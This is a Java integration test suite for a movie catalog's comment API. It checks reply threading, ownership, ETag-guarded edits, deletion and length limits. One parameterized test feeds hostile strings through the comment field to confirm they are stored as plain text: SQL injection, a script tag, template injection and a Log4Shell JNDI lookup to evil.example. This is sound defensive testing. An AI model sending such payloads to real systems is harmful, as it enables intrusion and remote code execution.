package kinoteka.catalog.comment;

import static org.assertj.core.api.Assertions.assertThat;

import kinoteka.catalog.Api;
import kinoteka.catalog.Bearer;
import kinoteka.catalog.CatalogIT;
import kinoteka.catalog.Samples;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.http.HttpHeaders;

@CatalogIT
class CommentIT {

    private Api api;
    private Api self;
    private long customer;
    private String path;

    @BeforeEach
    void connect(@LocalServerPort int port) throws Exception {
        customer = Samples.customer();
        api = Api.at(port);
        self = api.as(Bearer.customer(customer));
        path = "/api/movie/" + Samples.stalker() + "/comments";
    }

    @Test
    void keepsThreadsInAnOrderInWhichAnswersFollowWhatTheyAnswer() throws Exception {
        var first = self.post(path, "{\"text\":\"Гениально\"}");
        var other = api.as(Bearer.customer(Samples.customer()));
        var answer = other.post(path, "{\"text\":\"Долго\",\"parent_id\":%d}".formatted(first.id()));
        var second = self.post(path, "{\"text\":\"Ещё раз\"}");

        assertThat(first.status()).isEqualTo(201);
        assertThat(first.headers().getLocation()).hasPath("/api/comment/" + first.id());
        assertThat(answer.body().get("parent_id").asLong()).isEqualTo(first.id());
        var thread = api.get(path).body();
        assertThat(thread).containsExactly(first.body(), answer.body(), second.body());
        assertThat(api.get(path + "?parent_id=" + first.id()).body()).containsExactly(answer.body());
    }

    @Test
    void rejectsAReplyToACommentOnAnotherSubjectOrToNone() throws Exception {
        var elsewhere = self.post("/api/movie/" + Samples.stalker() + "/comments", "{\"text\":\"a\"}");
        var review = self.post("/api/publication/" + Samples.publication(customer) + "/comments", "{\"text\":\"a\"}");

        for (var parent : new long[] {elsewhere.id(), review.id(), Long.MAX_VALUE}) {
            var rejected = self.post(path, "{\"text\":\"b\",\"parent_id\":%d}".formatted(parent));
            assertThat(rejected.status()).isEqualTo(422);
            assertThat(rejected.problem()).isEqualTo("reference-not-found");
            assertThat(rejected.field()).isEqualTo("parent_id");
        }
        assertThat(api.get(path).body()).isEmpty();
    }

    @Test
    void givesNoWayToTurnAThreadIntoACircle() {
        var first = self.post(path, "{\"text\":\"a\"}");
        var answer = self.post(path, "{\"text\":\"b\",\"parent_id\":%d}".formatted(first.id()));

        var rejected = self.patch("/api/comment/" + first.id(), "{\"parent_id\":%d}".formatted(answer.id()));

        assertThat(rejected.status()).isEqualTo(422);
        assertThat(rejected.field()).isEqualTo("parent_id");
    }

    @Test
    void letsACustomerMendAndDeleteTheirOwn() {
        var said = self.post(path, "{\"text\":\"Гинеально\"}");
        var address = "/api/comment/" + said.id();
        var answer = self.post(path, "{\"text\":\"?\",\"parent_id\":%d}".formatted(said.id()));

        var mended = self.with(HttpHeaders.IF_MATCH, said.etag()).patch(address, "{\"text\":\"Гениально\"}");
        assertThat(mended.body().get("text").asString()).isEqualTo("Гениально");
        assertThat(mended.body().get("changed_at").isNull()).isFalse();
        assertThat(self.with(HttpHeaders.IF_MATCH, said.etag())
                        .patch(address, "{\"text\":\"c\"}")
                        .status())
                .isEqualTo(412);

        assertThat(self.delete(address).status()).isEqualTo(204);
        var left = api.get(address).body();
        assertThat(left.get("text").isNull()).isTrue();
        assertThat(left.get("customer").isNull()).isTrue();
        assertThat(left.get("deleted_at").isNull()).isFalse();
        assertThat(api.get("/api/comment/" + answer.id()).status()).isEqualTo(200);
        assertThat(self.delete(address).status()).isEqualTo(404);
        assertThat(self.patch(address, "{\"text\":\"d\"}").status()).isEqualTo(404);
    }

    @Test
    void doesNotTellSomebodyElsesCommentFromNone() throws Exception {
        var address = "/api/comment/" + self.post(path, "{\"text\":\"a\"}").id();
        var other = api.as(Bearer.customer(Samples.customer()));

        for (var unknown : new String[] {address, "/api/comment/9223372036854775807"}) {
            assertThat(other.patch(unknown, "{\"text\":\"b\"}").problem()).isEqualTo("resource-not-found");
            assertThat(other.delete(unknown).problem()).isEqualTo("resource-not-found");
        }
        assertThat(api.as(Bearer.admin()).delete(address).status()).isEqualTo(204);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "'; drop table comments; --",
                "<script>alert(1)</script>",
                "{{7*7}} ${jndi:ldap://evil.example} \\u0000 \\\\0",
                "🎬👩‍👩‍👧 ёЁ ﷽ \u202e",
                "\t tab"
            })
    void keepsAnyTextAsText(String text) {
        var said = self.post(path, "{\"text\":%s}".formatted(quoted(text)));

        assertThat(said.status()).isEqualTo(201);
        var read = api.get("/api/comment/" + said.id());
        assertThat(read.body().get("text").asString()).isEqualTo(text);
        assertThat(read.headers().getFirst("X-Content-Type-Options")).isEqualTo("nosniff");
    }

    @Test
    void saysThatThereIsNoSuchThing() {
        assertThat(api.get("/api/movie/9223372036854775807/comments").status()).isEqualTo(404);
        assertThat(self.post("/api/publication/9223372036854775807/comments", "{\"text\":\"a\"}")
                        .status())
                .isEqualTo(404);
        assertThat(api.get("/api/comment/9223372036854775807").status()).isEqualTo(404);
    }

    @Test
    void rejectsATextThatIsTooLong() {
        assertThat(self.post(path, "{\"text\":\"%s\"}".formatted("ё".repeat(10_000)))
                        .status())
                .isEqualTo(201);
        assertThat(self.post(path, "{\"text\":\"%s\"}".formatted("ё".repeat(10_001)))
                        .field())
                .isEqualTo("text");
        assertThat(self.post(path, "{\"text\":\"%s\"}".formatted("a".repeat(1 << 20)))
                        .status())
                .isEqualTo(413);
    }

    private static String quoted(String text) {
        return '"' + text.replace("\\", "\\\\").replace("\"", "\\\"").replace("\t", "\\t") + '"';
    }
}
